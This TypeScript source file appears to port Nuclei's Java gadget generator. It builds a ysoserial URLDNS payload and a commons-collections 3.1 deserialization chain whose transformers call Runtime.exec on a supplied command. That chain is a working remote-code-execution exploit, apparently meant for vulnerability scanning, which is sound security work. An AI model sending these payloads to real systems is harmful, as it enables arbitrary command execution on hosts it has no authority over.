import {
  type ClassDesc,
  float,
  int,
  type JavaValue,
  ObjectStreamWriter,
  SC_SERIALIZABLE,
  SC_WRITE_METHOD,
  str,
} from './object-stream.js';

/*
 * The two deserialization probes of Nuclei's `generate_java_gadget` that templates use, built
 * object by object (serialVersionUIDs are those of the JDK and commons-collections 3.1 classes):
 * - `dns`: ysoserial's URLDNS — a HashMap whose key is a java.net.URL with its cached hash code
 *   unset, so deserializing it resolves the URL's host (an out-of-band DNS callback).
 * - `commons-collections3.1`: a HashSet holding a TiedMapEntry over a LazyMap whose factory is a
 *   ChainedTransformer calling Runtime.getRuntime().exec(new String[]{cmd}) when hashed.
 */

const WRITE = SC_SERIALIZABLE | SC_WRITE_METHOD;
const OBJECT_SIG = 'Ljava/lang/Object;';
const STRING_SIG = 'Ljava/lang/String;';

const HASH_MAP: ClassDesc = {
  name: 'java.util.HashMap',
  uid: '0507dac1c31660d1',
  flags: WRITE,
  fields: [
    { type: 'F', name: 'loadFactor' },
    { type: 'I', name: 'threshold' },
  ],
};
const URL_DESC: ClassDesc = {
  name: 'java.net.URL',
  uid: '962537361afce472',
  flags: WRITE,
  fields: [
    { type: 'I', name: 'hashCode' },
    { type: 'I', name: 'port' },
    { type: 'L', name: 'authority', signature: STRING_SIG },
    { type: 'L', name: 'file', signature: STRING_SIG },
    { type: 'L', name: 'host', signature: STRING_SIG },
    { type: 'L', name: 'protocol', signature: STRING_SIG },
    { type: 'L', name: 'ref', signature: STRING_SIG },
  ],
};

const u32s = (...values: number[]): Uint8Array => {
  const b = Buffer.alloc(values.length * 4);
  for (const [i, v] of values.entries()) b.writeUInt32BE(v >>> 0, i * 4);
  return b;
};
const LOAD_FACTOR = 0x3f400000; // 0.75f

/** Scheme and host as Go's url.Parse gives them (no scheme: both empty, the text is a path). */
function schemeAndHost(url: string): { scheme: string; host: string } {
  const m = /^([A-Za-z][A-Za-z0-9+.-]*):\/\/(\[[^\]]*\]|[^/?#:@]*@?[^/?#:]*)/.exec(url);
  if (!m) return { scheme: '', host: '' };
  const authority = m[2]!.slice(m[2]!.lastIndexOf('@') + 1);
  return { scheme: m[1]!.toLowerCase(), host: authority.replace(/^\[|\]$/g, '') };
}

export function urlDnsGadget(url: string): Buffer {
  const { scheme, host } = schemeAndHost(url);
  const urlObject: JavaValue = {
    kind: 'object',
    desc: URL_DESC,
    values: [int(-1), int(-1), str(host), str(''), str(host), str(scheme), null],
  };
  return new ObjectStreamWriter()
    .write({
      kind: 'object',
      desc: HASH_MAP,
      values: [float(0.75), int(12)],
      custom: [{ block: u32s(16, 1) }, { value: urlObject }, { value: str(url) }],
    })
    .bytes();
}

const CC = 'org.apache.commons.collections';
const TRANSFORMER_SIG = 'Lorg/apache/commons/collections/Transformer;';
const arrayDesc = (name: string, uid: string): ClassDesc => ({
  name,
  uid,
  flags: SC_SERIALIZABLE,
  fields: [],
});
const OBJECTS = arrayDesc('[Ljava.lang.Object;', '90ce589f1073296c');
const CLASSES = arrayDesc('[Ljava.lang.Class;', 'ab16d7aecbcd5a99');
const STRINGS = arrayDesc('[Ljava.lang.String;', 'add256e7e91d7b47');
const TRANSFORMERS = arrayDesc(`[L${CC}.Transformer;`, 'bd562af1d8341899');
const classOf = (name: string, uid = '0000000000000000', flags = SC_SERIALIZABLE): JavaValue => ({
  kind: 'class',
  desc: { name, uid, flags, fields: [] },
});
const STRING_CLASS = classOf('java.lang.String', 'a0f0a4387a3bb342');

const CONSTANT: ClassDesc = {
  name: `${CC}.functors.ConstantTransformer`,
  uid: '587690114102b194',
  flags: SC_SERIALIZABLE,
  fields: [{ type: 'L', name: 'iConstant', signature: OBJECT_SIG }],
};
const INVOKER: ClassDesc = {
  name: `${CC}.functors.InvokerTransformer`,
  uid: '87e8ff6b7b7cce38',
  flags: SC_SERIALIZABLE,
  fields: [
    { type: '[', name: 'iArgs', signature: '[Ljava/lang/Object;' },
    { type: 'L', name: 'iMethodName', signature: STRING_SIG },
    { type: '[', name: 'iParamTypes', signature: '[Ljava/lang/Class;' },
  ],
};
const INTEGER: ClassDesc = {
  name: 'java.lang.Integer',
  uid: '12e2a0a4f7818738',
  flags: SC_SERIALIZABLE,
  fields: [{ type: 'I', name: 'value' }],
  superClass: { name: 'java.lang.Number', uid: '86ac951d0b94e08b', flags: SC_SERIALIZABLE, fields: [] },
};

const constant = (value: JavaValue): JavaValue => ({ kind: 'object', desc: CONSTANT, values: [value] });
const invoker = (
  method: string,
  paramTypes: JavaValue[],
  args: JavaValue[],
  argsDesc = OBJECTS,
): JavaValue => ({
  kind: 'object',
  desc: INVOKER,
  values: [
    { kind: 'array', desc: argsDesc, items: args },
    str(method),
    { kind: 'array', desc: CLASSES, items: paramTypes },
  ],
});

export function commonsCollections31Gadget(cmd: string): Buffer {
  const chain: JavaValue[] = [
    constant(classOf('java.lang.Runtime', '0000000000000000', 0)),
    invoker(
      'getMethod',
      [STRING_CLASS, { kind: 'class', desc: CLASSES }],
      [str('getRuntime'), { kind: 'array', desc: CLASSES, items: [] }],
    ),
    invoker(
      'invoke',
      [classOf('java.lang.Object', '0000000000000000', 0), { kind: 'class', desc: OBJECTS }],
      [null, { kind: 'array', desc: OBJECTS, items: [] }],
    ),
    // Method.invoke(runtime, new String[]{cmd}): the String[] is the argument list of exec(String).
    invoker('exec', [STRING_CLASS], [str(cmd)], STRINGS),
    constant({ kind: 'object', desc: INTEGER, values: [int(1)] }),
  ];
  const lazyMap: JavaValue = {
    kind: 'object',
    desc: {
      name: `${CC}.map.LazyMap`,
      uid: '6ee594829e791094',
      flags: WRITE,
      fields: [{ type: 'L', name: 'factory', signature: TRANSFORMER_SIG }],
    },
    values: [
      {
        kind: 'object',
        desc: {
          name: `${CC}.functors.ChainedTransformer`,
          uid: '30c797ec287a9704',
          flags: SC_SERIALIZABLE,
          fields: [{ type: '[', name: 'iTransformers', signature: `[${TRANSFORMER_SIG}` }],
        },
        values: [{ kind: 'array', desc: TRANSFORMERS, items: chain }],
      },
    ],
    // LazyMap.writeObject writes the decorated map: an empty HashMap.
    custom: [
      {
        value: {
          kind: 'object',
          desc: HASH_MAP,
          values: [float(0.75), int(0)],
          custom: [{ block: u32s(16, 0) }],
        },
      },
    ],
  };
  const entry: JavaValue = {
    kind: 'object',
    desc: {
      name: `${CC}.keyvalue.TiedMapEntry`,
      uid: '8aadd29b39c11fdb',
      flags: SC_SERIALIZABLE,
      fields: [
        { type: 'L', name: 'key', signature: OBJECT_SIG },
        { type: 'L', name: 'map', signature: 'Ljava/util/Map;' },
      ],
    },
    values: [str('didban'), lazyMap],
  };
  const capacity = u32s(2, LOAD_FACTOR, 1); // capacity, load factor (float bits), size
  return new ObjectStreamWriter()
    .write({
      kind: 'object',
      desc: { name: 'java.util.HashSet', uid: 'ba44859596b8b734', flags: WRITE, fields: [] },
      values: [],
      custom: [{ block: capacity }, { value: entry }],
    })
    .bytes();
}
